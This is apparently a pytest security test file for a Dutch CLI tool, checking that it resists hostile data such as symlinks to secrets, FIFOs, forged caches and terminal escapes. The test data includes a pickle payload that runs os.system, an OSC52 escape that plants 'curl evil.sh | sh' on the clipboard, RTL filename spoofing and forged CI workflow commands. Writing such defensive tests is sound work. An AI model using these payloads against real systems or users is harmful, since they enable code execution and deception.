"""Hostile data and hostile neighbours (issue 15): no code execution, no leaks, no hangs,
no tracebacks.

Every case takes the fixture knowledge base, plants one hostile thing (a symlink to a
secret, a FIFO, /dev/zero, an escape-laden title, a forged workflow command, a planted
cache file owned by another user, a device as --out, …), runs the command and asserts:
it finished (hang-prone cases run in a fresh process with a 10 s timeout), the exit code
is the documented one, the problem is one located line, no traceback, nothing of a
secret echoed, outputs whole.
"""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest

GESPREK = "measures/dji/dji-gesprek.yaml"
SECRET = "root:x:0:0:geheim-wachtwoord-1234:/root:/bin/bash"


def run_cli(*args: str, env: dict[str, str] | None = None, timeout: float = 10, **kwargs):
    """The CLI in a fresh process, killed after `timeout` seconds (a hang fails the test)."""
    full_env = {**os.environ, **(env or {})}
    proc = subprocess.run(
        [sys.executable, "-m", "zorgtoolbox", *args],
        capture_output=True,
        text=True,
        errors="backslashreplace",
        env=full_env,
        timeout=timeout,
        **kwargs,
    )
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def findings_with(stdout: str, code: str) -> list[str]:
    return [line for line in stdout.splitlines() if f": {code} " in line]


@pytest.fixture
def kb_dir(kb_dir: Path) -> Path:
    """The fixture knowledge base, with the title of dji-gesprek marked as the region's own
    words (`local`): the tests below edit that title, and quote verification (which would
    refuse an edited quote) is not what they test."""
    path = kb_dir / GESPREK
    text = path.read_text()
    assert "\nprovenance:\n" in text
    path.write_text(text.replace("\nprovenance:\n", "\nprovenance:\n  title: local\n", 1))
    return kb_dir


def line_of(path: Path, needle: str) -> int:
    """The line number (1-based) of the first line of `path` that contains `needle`."""
    lines = path.read_text().splitlines()
    return next(n for n, line in enumerate(lines, 1) if needle in line)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the knowledge base that must never be read or echoed."""
    path = tmp_path / "geheim" / "passwd"
    path.parent.mkdir()
    path.write_text(f"{SECRET}\n")
    return path


def assert_no_leak(proc: subprocess.CompletedProcess, secret: Path) -> None:
    for stream in (proc.stdout, proc.stderr):
        assert "geheim-wachtwoord" not in stream
        assert str(secret) not in stream and "geheim/" not in stream


# --- reading data files ---------------------------------------------------------------


def test_symlink_to_a_secret_is_refused_and_nothing_of_it_echoed(
    kb_dir: Path, secret: Path, invoke
) -> None:
    link = kb_dir / GESPREK
    link.unlink()
    link.symlink_to(secret)
    (kb_dir / "glossary.yaml").unlink()
    (kb_dir / "glossary.yaml").symlink_to(secret)
    proc = run_cli("validate", "--data", str(kb_dir))
    assert proc.returncode == 1
    lines = findings_with(proc.stdout, "outside-knowledge-base")
    assert [line.split(": ")[0] for line in lines] == [
        "data/glossary.yaml:1:1",
        f"data/{GESPREK}:1:1",
    ]
    assert_no_leak(proc, secret)
    for fmt in ("json", "github"):
        assert_no_leak(run_cli("validate", "-f", fmt, "--data", str(kb_dir)), secret)


def test_symlinked_folder_out_of_the_knowledge_base_is_not_listed(
    kb_dir: Path, secret: Path
) -> None:
    (secret.parent / "passwd.yaml").write_text(f"id: {SECRET}\n")
    (kb_dir / "measures" / "buiten").symlink_to(secret.parent)
    proc = run_cli("validate", "--data", str(kb_dir))
    assert proc.returncode == 1
    assert findings_with(proc.stdout, "outside-knowledge-base")[0].startswith(
        "data/measures/buiten:1:1: "
    )
    assert "passwd" not in proc.stdout
    assert_no_leak(proc, secret)


def test_symlink_inside_the_knowledge_base_is_fine(kb_dir: Path, invoke) -> None:
    shared = kb_dir / "gedeeld"
    shared.mkdir()
    (kb_dir / GESPREK).rename(shared / "dji-gesprek.yaml")
    (kb_dir / GESPREK).symlink_to(Path("../../gedeeld/dji-gesprek.yaml"))
    result = invoke("validate", "--data", str(kb_dir))
    assert result.exit_code == 0, result.stdout


@pytest.mark.parametrize("target", ["/dev/zero", "/dev/urandom"])
def test_symlink_to_an_endless_device_finishes(kb_dir: Path, target: str) -> None:
    link = kb_dir / GESPREK
    link.unlink()
    link.symlink_to(target)
    proc = run_cli("validate", "--data", str(kb_dir))
    assert proc.returncode == 1
    assert findings_with(proc.stdout, "outside-knowledge-base")[0].startswith(f"data/{GESPREK}:1:1")


def test_fifo_named_like_a_data_file_finishes(kb_dir: Path) -> None:
    os.mkfifo(kb_dir / "measures" / "dji" / "x.yaml")
    proc = run_cli("validate", "--data", str(kb_dir))
    assert proc.returncode == 1
    (line,) = findings_with(proc.stdout, "not-a-regular-file")
    assert line.startswith("data/measures/dji/x.yaml:1:1: not-a-regular-file this is a named pipe")


def test_device_node_inside_the_knowledge_base_is_not_read(kb_dir: Path) -> None:
    device = kb_dir / "measures" / "dji" / "nul.yaml"
    try:
        os.mknod(device, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # what /dev/zero is
    except PermissionError:
        pytest.skip("this machine does not allow creating device nodes")
    proc = run_cli("validate", "--data", str(kb_dir))
    assert proc.returncode == 1
    (line,) = findings_with(proc.stdout, "not-a-regular-file")
    assert "character device" in line


def test_folder_named_like_a_data_file_is_a_finding(kb_dir: Path, invoke) -> None:
    (kb_dir / "glossary.yaml").unlink()
    (kb_dir / "glossary.yaml").mkdir()
    result = invoke("validate", "--data", str(kb_dir))
    assert result.exit_code == 1
    assert (
        "data/glossary.yaml:1:1: not-a-regular-file this is a folder, not a regular file"
        in result.stdout
    )


@pytest.mark.parametrize(
    ("name", "rename"),
    [
        ("measures/dji/dji-nieuw.YAML", "dji-nieuw.yaml"),
        ("measures/dji/dji-nieuw.Yml", "dji-nieuw.yaml"),
        ("flows/nieuw.Yaml", "nieuw.yaml"),
        ("Glossary.YAML", "glossary.yaml"),
        ("agencies.yml", "agencies.yaml"),
    ],
)
def test_yaml_in_another_spelling_is_never_silently_ignored(
    kb_dir: Path, invoke, name: str, rename: str
) -> None:
    (kb_dir / name).write_text("id: x\n")
    result = invoke("validate", "--data", str(kb_dir))
    assert result.exit_code == 1
    (line,) = findings_with(result.stdout, "wrong-extension")
    assert line.startswith(f"data/{name}:1:1: ") and f"rename to {rename}" in line


@pytest.mark.parametrize("kind", ["dangling", "loop"])
def test_broken_symlinks_are_located_findings(kb_dir: Path, invoke, kind: str) -> None:
    link = kb_dir / "measures" / "dji" / "kapot.yaml"
    link.symlink_to("nergens.yaml" if kind == "dangling" else "kapot.yaml")
    result = invoke("validate", "--data", str(kb_dir))
    assert result.exit_code == 1
    (line,) = findings_with(result.stdout, "unreadable-file")
    assert line.startswith("data/measures/dji/kapot.yaml:1:1: unreadable-file")
    assert ("does not exist" if kind == "dangling" else "leads back to itself") in line


def _as_nobody(tmp_path_factory) -> Path:
    """A folder that user nobody (65534) can enter: pytest's own are private to root."""
    folder = tmp_path_factory.mktemp("gedeeld")
    for parent in (folder, *folder.parents):
        if parent == Path(os.sep):
            break
        if parent.stat().st_mode & 0o005 != 0o005:
            parent.chmod(parent.stat().st_mode | 0o005)
    return folder


needs_root = pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to act as another user"
)


def invoke_as(uid: int, *args: str) -> tuple[int, str, str]:
    """The CLI run by user `uid` in a forked child of this process (whose interpreter is
    already loaded, so the other user needs no access to it): exit code, stdout, stderr."""
    import importlib
    import json

    from typer.testing import CliRunner

    import zorgtoolbox
    from zorgtoolbox.cli import app

    # the other user runs zorgtoolbox, so it may reach zorgtoolbox's files (its templates,
    # the modules imported lazily): a fresh checkout in a private folder is made
    # traversable (o+x, not listable) along the way
    for installed in (Path(zorgtoolbox.__file__).resolve().parent, Path(sys.prefix).resolve()):
        for parent in (installed, *installed.parents):
            if parent.stat().st_mode & 0o001 == 0:
                parent.chmod(parent.stat().st_mode | 0o001)
    # this interpreter's own files may live in root's home, which the other user cannot
    # read: import what the commands import lazily before dropping privileges
    for module in (
        "zorgtoolbox.render",
        "zorgtoolbox.schema",
        "zorgtoolbox.flowgraph",
        "jinja2.ext",
    ):
        importlib.import_module(module)
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: drop to `uid`, run, report, and never return into pytest
        code = 70
        try:
            os.close(read)
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
            result = CliRunner().invoke(app, list(args))
            error = (
                ""
                if result.exception is None or isinstance(result.exception, SystemExit)
                else repr(result.exception)
            )
            report = [result.exit_code, result.stdout, result.stderr + error]
            os.write(write, json.dumps(report).encode())
            code = 0
        finally:
            os._exit(code)
    os.close(write)
    with os.fdopen(read, "rb") as pipe:
        data = pipe.read()
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0, "the child failed"
    exit_code, stdout, stderr = json.loads(data)
    return exit_code, stdout, stderr


@needs_root
def test_unreadable_folder_is_a_finding_not_a_traceback(tmp_path_factory) -> None:
    import shutil

    from conftest import FIXTURE_KB

    data = _as_nobody(tmp_path_factory) / "data"
    shutil.copytree(FIXTURE_KB, data)
    for path in (data, *data.rglob("*")):
        path.chmod(0o755 if path.is_dir() else 0o644)
    (data / "measures" / "igj").chmod(0o000)
    code, stdout, stderr = invoke_as(65534, "validate", "--data", str(data))
    assert code == 1, stderr
    (line,) = findings_with(stdout, "unreadable-file")
    assert line == (
        f"{data.resolve().as_posix()}/measures/igj:1:1: "
        "unreadable-file cannot list this folder: Permission denied"
    )


def test_lone_cr_line_endings_are_located_like_the_parser_does(kb_dir: Path, invoke) -> None:
    path = kb_dir / GESPREK
    fraude, title = line_of(path, "  fraude:"), line_of(path, "title:")
    text = path.read_text().replace("  fraude:", "\tfraude:")
    path.write_bytes(text.replace("\n", "\r").encode())
    result = invoke("validate", "--data", str(kb_dir))
    (line,) = findings_with(result.stdout, "tab-indent")
    assert line.startswith(f"data/{GESPREK}:{fraude}:1: ")
    path.write_bytes(
        text.replace("\t", "  ").replace("title:", "titel:").replace("\n", "\r").encode()
    )
    result = invoke("validate", "--data", str(kb_dir))
    (line,) = findings_with(result.stdout, "unknown-field")
    assert line.startswith(f"data/{GESPREK}:{title}:1: ")


@pytest.mark.parametrize(
    ("old", "new", "after"),
    [
        ("position: 1\n  overlast", "position: " + "9" * 5000 + "\n  overlast", 0),
        ("position: 1\n  overlast", "position: 0x" + "f" * 5000 + "\n  overlast", 0),
        ("agency: dji\n", "agency: dji\n? " + "1" * 5000 + "\n: x\n", 1),
        ("title: Gesprekken met zorgaanbieders", "title: !!int " + "7" * 5000, 0),
    ],
    ids=["decimal", "hex", "key", "tagged"],
)
def test_a_5000_digit_integer_is_a_located_finding(
    kb_dir: Path, invoke, old: str, new: str, after: int
) -> None:
    path = kb_dir / GESPREK
    line = line_of(path, old.split("\n")[0]) + after
    path.write_text(path.read_text().replace(old, new, 1))
    result = invoke("validate", "--data", str(kb_dir))
    assert result.exit_code == 1
    (found,) = findings_with(result.stdout, "number-too-long")
    assert found.startswith(f"data/{GESPREK}:{line}:")
    assert "5,00" in found and "9999" not in found


ESCAPES = {
    "clear-screen": ('"Gesprekken\\e[2J\\e[H"', "control-character", "U+001B (ESC)"),
    "osc52-clipboard": (
        '"Gesprekken\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\a"',
        "control-character",
        "U+001B",
    ),
    "osc8-link": (
        '"\\e]8;;https://evil.example\\e\\\\Klik\\e]8;;\\e\\\\"',
        "control-character",
        "U+001B",
    ),
    "c1-csi": ('"Gesprekken\\x9b31m"', "control-character", "U+009B (CSI)"),
    "nel": ('"Gesprekken\\N"', "control-character", "U+0085 (NEL)"),
    "rtl-override": (
        '"Gesprekken \\u202Eelif.exe"',
        "bidi-control",
        "U+202E (RIGHT-TO-LEFT OVERRIDE)",
    ),
    "zero-width-title": ('"\\u200B"', "zero-width-character", "U+200B (ZERO WIDTH SPACE)"),
    "raw-rtl-override": ("Gesprekken \u202eelif.exe", "bidi-control", "U+202E"),
    "raw-zero-width": ("Gesprekken met\u200b zorgaanbieders", "zero-width-character", "U+200B"),
    "raw-line-separator": ("Gesprekken\u2028::error::x", "control-character", "U+2028"),
}


@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_control_and_invisible_characters_are_located_errors(
    kb_dir: Path, invoke, name: str
) -> None:
    title, code, shown = ESCAPES[name]
    path = kb_dir / GESPREK
    path.write_text(path.read_text().replace("Gesprekken met zorgaanbieders", title, 1))
    result = invoke("validate", "--data", str(kb_dir))
    assert result.exit_code == 1
    (line,) = findings_with(result.stdout, code)
    assert line.startswith(f"data/{GESPREK}:2:") and shown in line
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout


@pytest.mark.parametrize(
    "key",
    ['"titel\\n::error file=x::vervalst"', '"tab\\tin sleutel"', "? |\n  ::stop-commands::abc\n"],
    ids=["newline", "tab", "block-key"],
)
def test_a_control_character_in_a_key_is_a_located_error(kb_dir: Path, invoke, key: str) -> None:
    path = kb_dir / GESPREK
    added = len(path.read_text().splitlines()) + 1
    path.write_text(path.read_text() + key + ": 1\n")
    result = invoke("validate", "--data", str(kb_dir))
    assert result.exit_code == 1
    (line,) = findings_with(result.stdout, "control-character")
    assert line.startswith(f"data/{GESPREK}:{added}:") and "in a key" in line
    for out in result.stdout.splitlines():
        assert not out.lstrip().startswith("::")


# --- the query cache ------------------------------------------------------------------


def _forged_cache(kb_dir: Path, tmp_path: Path) -> bytes:
    """A cache file a neighbour could plant: the right key (the neighbour can stat the
    data files too), and data that was never validated."""
    import shutil

    from conftest import load_kb

    from zorgtoolbox import cachefile, store

    forged_dir = tmp_path / "vervalst" / "data"
    shutil.copytree(kb_dir, forged_dir)
    measure = forged_dir / GESPREK
    measure.write_text(measure.read_text().replace("Gesprekken met zorgaanbieders", "VERVALST"))
    key = store.fingerprint(kb_dir.resolve()).encode("utf-8", "surrogateescape")
    return cachefile.encode(key, load_kb(forged_dir))


def _plant(folder: Path, kb_dir: Path, content: bytes, *, uid: int = 0, mode: int = 0o600) -> Path:
    from zorgtoolbox import store

    path = folder / store.cache_file_name(kb_dir.resolve())
    path.write_bytes(content)
    os.chown(path, uid, uid)
    path.chmod(mode)
    return path


def _title_shown(invoke, kb_dir: Path, cache: Path | str) -> str:
    result = invoke(
        "show", "dji-gesprek", "--data", str(kb_dir), env={"ZORGTOOLBOX_CACHE_DIR": str(cache)}
    )
    assert result.exit_code == 0, result.output
    return result.stdout.splitlines()[0].rstrip("*°+")  # without the mark of its basis


def test_the_forged_cache_would_be_served_if_it_were_trusted(
    kb_dir: Path, tmp_path: Path, invoke
) -> None:
    """The control for the cases below: a forged file with the right key, owned by the
    user in their own private folder (which only they could have written), is used."""
    cache = tmp_path / "eigen"
    cache.mkdir(mode=0o700)
    _plant(cache, kb_dir, _forged_cache(kb_dir, tmp_path))
    assert _title_shown(invoke, kb_dir, cache) == "VERVALST"


@needs_root
def test_planted_cache_owned_by_another_user_is_never_read(
    kb_dir: Path, tmp_path: Path, invoke
) -> None:
    cache = tmp_path / "eigen"
    cache.mkdir(mode=0o700)
    planted = _plant(cache, kb_dir, _forged_cache(kb_dir, tmp_path), uid=65534, mode=0o644)
    assert _title_shown(invoke, kb_dir, cache) == "Gesprekken met zorgaanbieders"
    assert planted.stat().st_uid == 0  # replaced by the user's own, validated cache


@pytest.mark.parametrize("mode", [0o666, 0o620, 0o602])
def test_cache_file_writable_by_others_is_never_read(
    kb_dir: Path, tmp_path: Path, invoke, mode: int
) -> None:
    cache = tmp_path / "eigen"
    cache.mkdir(mode=0o700)
    _plant(cache, kb_dir, _forged_cache(kb_dir, tmp_path), mode=mode)
    assert _title_shown(invoke, kb_dir, cache) == "Gesprekken met zorgaanbieders"


@pytest.mark.parametrize("mode", [0o1777, 0o755, 0o770])
def test_cache_folder_others_can_use_is_neither_read_nor_written(
    kb_dir: Path, tmp_path: Path, invoke, mode: int
) -> None:
    shared = tmp_path / "gedeeld"
    shared.mkdir()
    shared.chmod(mode)
    planted = _plant(shared, kb_dir, _forged_cache(kb_dir, tmp_path))
    assert _title_shown(invoke, kb_dir, shared) == "Gesprekken met zorgaanbieders"
    assert [p.name for p in shared.iterdir()] == [planted.name]  # nothing written there


def test_symlinks_to_a_cache_are_not_followed(kb_dir: Path, tmp_path: Path, invoke) -> None:
    elsewhere = tmp_path / "elders"
    elsewhere.mkdir(mode=0o700)
    forged = _plant(elsewhere, kb_dir, _forged_cache(kb_dir, tmp_path))
    link_folder = tmp_path / "link-naar-map"
    link_folder.symlink_to(elsewhere)
    assert _title_shown(invoke, kb_dir, link_folder) == "Gesprekken met zorgaanbieders"
    cache = tmp_path / "eigen"
    cache.mkdir(mode=0o700)
    (cache / forged.name).symlink_to(forged)
    assert _title_shown(invoke, kb_dir, cache) == "Gesprekken met zorgaanbieders"


@needs_root
def test_xdg_cache_in_a_shared_folder_prepared_by_a_neighbour(
    kb_dir: Path, tmp_path: Path, invoke
) -> None:
    shared = tmp_path / "tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    trap = shared / "zorgtoolbox"
    trap.mkdir(mode=0o777)
    os.chown(trap, 65534, 65534)
    _plant(trap, kb_dir, _forged_cache(kb_dir, tmp_path), uid=65534, mode=0o666)
    env = {"XDG_CACHE_HOME": str(shared)}
    result = invoke(
        "show", "dji-gesprek", "--data", str(kb_dir), env={**env, "ZORGTOOLBOX_CACHE_DIR": None}
    )  # type: ignore[dict-item]
    assert result.exit_code == 0
    assert result.stdout.splitlines()[0].rstrip("+") == "Gesprekken met zorgaanbieders"
    assert len(list(trap.iterdir())) == 1


def test_a_pickle_with_code_in_the_cache_folder_is_never_executed(
    kb_dir: Path, tmp_path: Path, invoke
) -> None:
    """The old cache was a pickle under a predictable name; a planted one ran as the user."""
    import pickle
    import zlib

    from zorgtoolbox import store

    marker = tmp_path / "uitgevoerd"

    class Payload:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    cache = tmp_path / "eigen"
    cache.mkdir(mode=0o700)
    evil = pickle.dumps(Payload())
    old_name = f"kb-data-{zlib.crc32(str(kb_dir.resolve()).encode()):08x}.pickle"
    (cache / old_name).write_bytes(pickle.dumps(store.fingerprint(kb_dir.resolve())) + evil)
    key = store.fingerprint(kb_dir.resolve()).encode("utf-8", "surrogateescape")
    header = b"zorgtoolbox-cache 3\n%d %d 0 %d\n" % (len(key), len(evil), zlib.crc32(evil))
    _plant(cache, kb_dir, header + key + evil)
    assert _title_shown(invoke, kb_dir, cache) == "Gesprekken met zorgaanbieders"
    assert not marker.exists()


def test_an_edit_with_its_modification_time_set_back_is_seen(
    kb_dir: Path, tmp_path: Path, invoke
) -> None:
    cache = tmp_path / "eigen"
    assert _title_shown(invoke, kb_dir, cache) == "Gesprekken met zorgaanbieders"
    path = kb_dir / GESPREK
    before = path.stat()
    text = path.read_text()
    edited = text.replace("Gesprekken met zorgaanbieders", "Gesprekken met zorgaanbiedrs!")
    assert len(edited) == len(text)
    with path.open("r+") as handle:  # in place: same inode, same size
        handle.write(edited)
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert path.stat().st_mtime_ns == before.st_mtime_ns and path.stat().st_ino == before.st_ino
    assert _title_shown(invoke, kb_dir, cache) == "Gesprekken met zorgaanbiedrs!"


def test_an_edit_behind_a_symlinked_folder_is_seen(kb_dir: Path, tmp_path: Path, invoke) -> None:
    cache = tmp_path / "eigen"
    real = kb_dir / "echte-dji"
    (kb_dir / "measures" / "dji").rename(real)
    (kb_dir / "measures" / "dji").symlink_to(Path("../echte-dji"))
    assert _title_shown(invoke, kb_dir, cache) == "Gesprekken met zorgaanbieders"
    path = real / "dji-gesprek.yaml"
    path.write_text(path.read_text().replace("Gesprekken met zorgaanbieders", "Nieuwe titel"))
    assert _title_shown(invoke, kb_dir, cache) == "Nieuwe titel"


@pytest.mark.parametrize("kind", ["dangling", "loop", "folder-loop"])
@pytest.mark.parametrize(
    "command",
    [
        "measures",
        "show dji-gesprek",
        "search gesprek",
        "flow",
        "agencies",
        "glossary",
        "next dji-gesprek",
        "path dji-gesprek dji-opzeggen",
    ],
)
def test_broken_symlinks_in_the_data_never_crash_a_query(
    kb_dir: Path, invoke, kind: str, command: str
) -> None:
    folder = kb_dir / "measures" / "dji"
    if kind == "dangling":
        (folder / "kapot.yaml").symlink_to("nergens.yaml")
    elif kind == "loop":
        (folder / "kapot.yaml").symlink_to("kapot.yaml")
    else:
        (folder / "rondje").symlink_to(".")
    result = invoke(*command.split(), "--data", str(kb_dir))
    if kind == "folder-loop":  # a folder in an agency folder is a misplaced file
        assert result.exit_code == 1
        assert "misplaced-file" in result.stderr
        return
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0].startswith("Error: the knowledge base in ")
    assert "data/measures/dji/kapot.yaml:1:1: unreadable-file" in result.stderr


# --- output files ---------------------------------------------------------------------

FLOW = ("flow", "--domain", "fraude", "--format", "mermaid")


def _device(path: Path, minor: int) -> Path:
    """A character device node of our own: 1,3 is what /dev/null is, 1,7 /dev/full."""
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, minor))
    except PermissionError:
        pytest.skip("this machine does not allow creating device nodes")
    return path


def _assert_untouched(path: Path, before: os.stat_result) -> None:
    after = os.lstat(path)
    assert (after.st_mode, after.st_ino, after.st_mtime_ns) == (
        before.st_mode,
        before.st_ino,
        before.st_mtime_ns,
    )


def _one_error_line(stderr: str) -> str:
    lines = stderr.splitlines()
    assert len(lines) == 1, stderr
    assert lines[0].startswith("Error: ")
    return lines[0]


@pytest.mark.parametrize("kind", ["null-device", "full-device", "fifo", "symlink", "folder"])
@pytest.mark.parametrize("command", ["flow", "schema", "build-handbook"])
def test_an_output_target_that_is_not_a_regular_file_is_never_replaced(
    kb_dir: Path, tmp_path: Path, kind: str, command: str
) -> None:
    out = tmp_path / "uit"
    out.mkdir()
    name = {
        "flow": "stromen.mmd",
        "schema": "measure.schema.json",
        "build-handbook": "handboek.html",
    }[command]
    target = out / name
    victim = tmp_path / "slachtoffer.txt"
    if kind == "null-device":
        _device(target, 3)
    elif kind == "full-device":
        _device(target, 7)
    elif kind == "fifo":
        os.mkfifo(target)
    elif kind == "symlink":
        victim.write_text("niet overschrijven\n")
        target.symlink_to(victim)
    else:
        target.mkdir()
    before = os.lstat(target)
    args = {
        "flow": [*FLOW, "--out", str(target)],
        "schema": ["schema", "--out", str(out)],
        "build-handbook": ["build-handbook", "--out", str(out)],
    }[command]
    proc = run_cli(*args, "--data", str(kb_dir), env={"ZORGTOOLBOX_CACHE_DIR": ""})
    assert proc.returncode == 2, proc.stderr
    line = _one_error_line(proc.stderr)
    if not (command == "flow" and kind == "folder"):  # flow says: give a file name
        assert str(target) in line and "not a regular file" in line
    _assert_untouched(target, before)
    if kind == "symlink":
        assert victim.read_text() == "niet overschrijven\n"
    assert sorted(p.name for p in out.iterdir()) == [name]  # nothing else written, nothing left


@pytest.mark.parametrize("command", ["flow", "schema", "build-handbook"])
def test_an_impossible_output_folder_is_one_line_and_exit_2(
    kb_dir: Path, tmp_path: Path, command: str
) -> None:
    blocker = tmp_path / "bestand"
    blocker.write_text("x")
    out = blocker / "map"
    args = {
        "flow": [*FLOW, "--out", str(out / "stromen.mmd")],
        "schema": ["schema", "--out", str(out)],
        "build-handbook": ["build-handbook", "--out", str(out)],
    }[command]
    proc = run_cli(*args, "--data", str(kb_dir))
    assert proc.returncode == 2
    assert str(out) in _one_error_line(proc.stderr)
    assert blocker.read_text() == "x"


@needs_root
@pytest.mark.parametrize("command", ["flow", "schema", "build-handbook"])
def test_an_output_folder_without_permission_is_one_line_and_exit_2(
    tmp_path_factory, command: str
) -> None:
    import shutil

    from conftest import FIXTURE_KB

    shared = _as_nobody(tmp_path_factory)
    data = shared / "data"
    shutil.copytree(FIXTURE_KB, data)
    for path in (data, *data.rglob("*")):
        path.chmod(0o755 if path.is_dir() else 0o644)
    out = shared / "alleen-lezen"
    out.mkdir(mode=0o755)  # root's: nobody may not write here
    args = {
        "flow": [*FLOW, "--out", str(out / "stromen.mmd")],
        "schema": ["schema", "--out", str(out)],
        "build-handbook": ["build-handbook", "--out", str(out)],
    }[command]
    code, stdout, stderr = invoke_as(65534, *args, "--data", str(data))
    assert code == 2, stdout + stderr
    line = _one_error_line(stderr)
    assert str(out) in line and "Permission denied" in line
    assert list(out.iterdir()) == []


@pytest.mark.parametrize(
    ("err", "code", "words"),
    [
        ("ENOSPC", 1, "No space left on device; nothing was replaced"),
        ("EDQUOT", 1, "quota exceeded; nothing was replaced"),
        ("EIO", 1, "Input/output error; nothing was replaced"),
        ("EROFS", 2, "Read-only file system"),
        ("EACCES", 2, "Permission denied"),
    ],
)
def test_a_failing_disk_is_one_line_with_the_documented_exit_code(
    kb_dir: Path,
    tmp_path: Path,
    invoke,
    monkeypatch: pytest.MonkeyPatch,
    err: str,
    code: int,
    words: str,
) -> None:
    import errno

    from zorgtoolbox import fsutil

    out = tmp_path / "toolbox"
    assert invoke("build-handbook", "--out", str(out), "--data", str(kb_dir)).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    number = getattr(errno, err)

    def failing_write(fd: int, data) -> int:
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr(fsutil.os, "write", failing_write)
    measure = kb_dir / GESPREK
    measure.write_text(measure.read_text().replace("Gesprekken met", "Nieuwe gesprekken met"))
    result = invoke("build-handbook", "--out", str(out), "--data", str(kb_dir))
    assert result.exit_code == code
    line = _one_error_line(result.stderr)
    assert words.lower() in line.lower() and str(out) in line
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # whole, old, nothing left


def test_a_real_full_disk_in_a_fresh_process(kb_dir: Path, tmp_path: Path) -> None:
    """RLIMIT_FSIZE makes the kernel refuse the write (EFBIG), as a full disk would."""
    import resource
    import signal

    out = tmp_path / "toolbox"
    assert run_cli("build-handbook", "--out", str(out), "--data", str(kb_dir)).returncode == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    measure = kb_dir / GESPREK
    measure.write_text(measure.read_text().replace("Gesprekken met", "Nieuwe gesprekken met"))

    def small_disk() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    proc = run_cli(
        "build-handbook", "--out", str(out), "--data", str(kb_dir),
        env={"ZORGTOOLBOX_CACHE_DIR": ""}, preexec_fn=small_disk,
    )  # fmt: skip
    assert proc.returncode == 1
    assert "File too large; nothing was replaced" in _one_error_line(proc.stderr)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_modes_follow_the_old_file_and_the_umask(kb_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "toolbox"
    out.mkdir()
    (out / "handboek.md").write_text("oud")
    (out / "handboek.md").chmod(0o640)
    proc = run_cli(
        "build-handbook",
        "--out",
        str(out),
        "--data",
        str(kb_dir),
        preexec_fn=lambda: os.umask(0o077),
    )
    assert proc.returncode == 0, proc.stderr
    assert stat.S_IMODE((out / "handboek.md").stat().st_mode) == 0o640  # kept
    assert stat.S_IMODE((out / "handboek.html").stat().st_mode) == 0o600  # 0o666 & ~0o077
    proc = run_cli(
        *FLOW,
        "--out",
        str(tmp_path / "s.mmd"),
        "--data",
        str(kb_dir),
        preexec_fn=lambda: os.umask(0o022),
    )
    assert stat.S_IMODE((tmp_path / "s.mmd").stat().st_mode) == 0o644


FAULTY_CLI = """
import os, signal, sys, time
real = os.replace
fault = os.environ["ZT_FAULT"]

def replace(src, dst, *args, **kwargs):
    if str(dst).endswith("handboek.html"):
        if fault == "kill-between-renames":
            os.kill(os.getpid(), signal.SIGKILL)
        if fault == "slow-between-renames":
            time.sleep(float(os.environ.get("ZT_SLEEP", "0.6")))
    return real(src, dst, *args, **kwargs)

def fsync(fd):  # a kill while the temporaries are still being written
    if fault == "kill-while-staging":
        os.kill(os.getpid(), signal.SIGKILL)

os.replace = replace
if fault == "kill-while-staging":
    os.fsync = fsync
from zorgtoolbox.cli import main
sys.argv = ["zorgtoolbox", *sys.argv[1:]]
main()
"""


def run_faulty(fault: str, *args: str, extra: dict[str, str] | None = None, wait: bool = True):
    env = {**os.environ, "ZT_FAULT": fault, "ZORGTOOLBOX_CACHE_DIR": "", **(extra or {})}
    cmd = [sys.executable, "-c", FAULTY_CLI, *args]
    if not wait:
        return subprocess.Popen(
            cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
    return subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=20)


def _set_title(kb_dir: Path, title: str) -> None:
    measure = kb_dir / GESPREK
    text = measure.read_text()
    current = next(line for line in text.splitlines() if line.startswith("title: "))
    measure.write_text(text.replace(current, f"title: {title}", 1))


def _titles(out: Path) -> tuple[str, str]:
    """Which build each file comes from (the title of dji-gesprek in it)."""
    md = (out / "handboek.md").read_text()
    html = (out / "handboek.html").read_text()
    assert html.rstrip().endswith("</html>")  # whole

    def pick(text: str) -> str:
        return next(t for t in ("Build A", "Build B", "Gesprekken met zorgaanbieders") if t in text)

    return pick(md), pick(html)


def test_a_kill_between_the_renames_is_completed_by_the_next_command(
    kb_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "toolbox"
    assert run_cli("build-handbook", "--out", str(out), "--data", str(kb_dir)).returncode == 0
    _set_title(kb_dir, "Build A")
    killed = run_faulty(
        "kill-between-renames", "build-handbook", "--out", str(out), "--data", str(kb_dir)
    )
    assert killed.returncode == -9
    assert _titles(out) == (
        "Build A",
        "Gesprekken met zorgaanbieders",
    )  # the mixed pair a kill leaves
    assert (out / ".zorgtoolbox-journal.json").exists()
    check = run_cli("build-handbook", "--check", "--out", str(out), "--data", str(kb_dir))
    assert check.returncode == 0, check.stderr  # --check completed the interrupted build
    assert _titles(out) == ("Build A", "Build A")
    assert sorted(p.name for p in out.iterdir()) == ["handboek.html", "handboek.md"]


def test_a_kill_between_the_renames_is_completed_by_the_next_build(
    kb_dir: Path, tmp_path: Path
